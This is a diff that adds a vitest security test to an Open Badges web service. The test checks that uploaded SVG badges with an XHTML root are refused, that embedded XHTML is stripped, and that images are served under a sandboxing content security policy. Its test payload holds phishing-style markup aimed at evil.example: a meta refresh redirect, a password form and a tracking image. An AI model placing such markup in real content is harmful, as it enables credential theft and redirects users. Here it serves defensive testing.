@@ -5,9 +5,9 @@
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { buildApp } from '../../src/app.ts';
-import { createSafeFetcher, type Fetcher } from '../../src/modules/openbadges/index.ts';
+import { bakeSvg, createSafeFetcher, type Fetcher } from '../../src/modules/openbadges/index.ts';
 import { testApp, testConfig } from '../support/app.ts';
-import { LocalIssuer } from '../support/badge-issuer.ts';
+import { LocalIssuer, multipartBody } from '../support/badge-issuer.ts';
 import { describeEachDatabase } from '../support/databases.ts';
 import { createEarner, type TestEarner } from '../support/earners.ts';
 
@@ -184,5 +184,56 @@ describeEachDatabase('badges: hostile input', (current) => {
     expect(JSON.parse(of(broken)?.checksJson ?? '[]')).toEqual([
       { code: 'input_parsed', status: 'failed', message: 'the badge could not be checked again this time' },
     ]);
+  });
+
+  it('keeps only SVG from an uploaded image: an XHTML root is refused, XHTML inside is dropped, and images are served sandboxed', async () => {
+    const earner = await createEarner(app);
+    const upload = (svg: string) => {
+      const body = multipartBody([{ name: 'file', filename: 'b.svg', type: 'image/svg+xml', data: svg }]);
+      return app.inject({
+        method: 'POST',
+        url: '/v1/badges',
+        headers: { cookie: earner.session.cookie, origin: earner.session.origin, ...body.headers },
+        payload: body.payload,
+      });
+    };
+    const page =
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/"/><form action="https://evil.example/"><input name="password"/></form><img src="https://evil.example/x.png"/>';
+    const xhtmlRoot = bakeSvg(
+      `<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`,
+      issuer.hosted(earner.addresses[0] as string).url,
+      '2.0',
+    ).replace('xmlns="http://www.w3.org/2000/svg"', 'xmlns="http://www.w3.org/1999/xhtml"');
+    const refused = await upload(xhtmlRoot.replace('<rect', `${page}<rect`));
+    expect(refused.statusCode, refused.body).toBe(422);
+    expect(refused.json()).toMatchObject({ code: 'badge_unreadable', inputCode: 'svg_not_svg' });
+
+    const nested = bakeSvg(
+      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g xmlns="http://www.w3.org/1999/xhtml">${page}</g><rect width="10" height="10" fill="red"/></svg>`,
+      issuer.hosted(earner.addresses[0] as string).url,
+      '2.0',
+    );
+    const added = await upload(nested);
+    expect(added.statusCode, added.body).toBe(201);
+    const link = await app.inject({
+      method: 'POST',
+      url: '/v1/share-links',
+      headers: headers(earner),
+      payload: JSON.stringify({ badgeId: added.json().id }),
+    });
+    expect(link.statusCode, link.body).toBe(201);
+    const served = [
+      await app.inject({ method: 'GET', url: added.json().imageUrl, headers: headers(earner) }),
+      await app.inject({ method: 'GET', url: `/share/${link.json().token}/images/0` }),
+    ];
+    for (const image of served) {
+      expect(image.statusCode, image.body).toBe(200);
+      expect(image.headers['content-security-policy']).toBe(
+        "default-src 'none'; style-src 'unsafe-inline'; sandbox; form-action 'none'",
+      );
+      expect(image.headers['x-content-type-options']).toBe('nosniff');
+      expect(image.body).toContain('<rect width="10" height="10" fill="red"/>');
+      expect(image.body).not.toMatch(/meta|refresh|form|input|img|xhtml|evil/i);
+    }
   });
 });
